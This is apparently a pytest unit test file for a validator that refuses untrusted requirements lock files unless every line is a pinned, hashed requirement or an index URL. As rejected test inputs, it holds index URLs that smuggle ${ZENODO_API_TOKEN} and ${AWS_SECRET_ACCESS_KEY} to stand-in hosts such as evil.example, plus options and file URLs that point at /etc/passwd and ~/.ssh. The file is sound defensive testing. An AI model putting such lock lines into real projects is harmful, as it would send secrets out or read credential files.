"""A capsule's lock is a stranger's file that pip and uv read on this machine: only pinned,
hashed requirements and index URLs pass; variables, includes and local paths are refused
before any installer sees the file."""

from __future__ import annotations

from pathlib import Path

import pytest

from repro.env.capsule_env import capsule_environment, check_capsule_lock
from repro.errors import CapsuleIntegrityError
from tests.unit.replay_values import manifest

HASH = "--hash=sha256:" + "a" * 64


def test_a_real_lock_passes() -> None:
    check_capsule_lock(
        "--index-url https://pypi.org/simple\n"
        f"six==1.16.0 \\\n    {HASH}\n    # via -r requirements.in\n"
        f"numpy==1.26.4 ; python_version >= '3.9' \\\n    {HASH}\n"
        f"torch==2.1.0+cpu {HASH}\n",
        "data/env/requirements.lock",
    )


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("--index-url https://evil.example/${ZENODO_API_TOKEN}/simple", "names a variable"),
        (f"six==1.16.0 {HASH}  # ${{HOME}}", None),  # a comment may say anything
        ("-r /etc/passwd", "option not allowed"),
        ("--find-links /home/me/.ssh", "option not allowed"),
        ("-e /home/me/project", "option not allowed"),
        (f"six>=1.16 {HASH}", "not a pinned requirement"),
        ("six==1.16.0", "not a pinned requirement"),
        (f"six @ file:///etc/passwd {HASH}", "not a pinned requirement"),
    ],
)
def test_what_a_lock_may_not_hold(line: str, why: str | None) -> None:
    if why is None:
        check_capsule_lock(line + "\n", "lock")
        return
    with pytest.raises(CapsuleIntegrityError, match=why):
        check_capsule_lock(f"six==1.0 {HASH}\n{line}\n", "lock")


def test_every_target_s_environment_is_checked(tmp_path: Path) -> None:
    m = manifest()
    lock = tmp_path / m.environment.lock
    lock.parent.mkdir(parents=True)
    lock.write_text("--index-url https://x.example/${AWS_SECRET_ACCESS_KEY}/simple\n")
    with pytest.raises(CapsuleIntegrityError) as info:
        capsule_environment(m, tmp_path)
    assert info.value.exit_code == 4
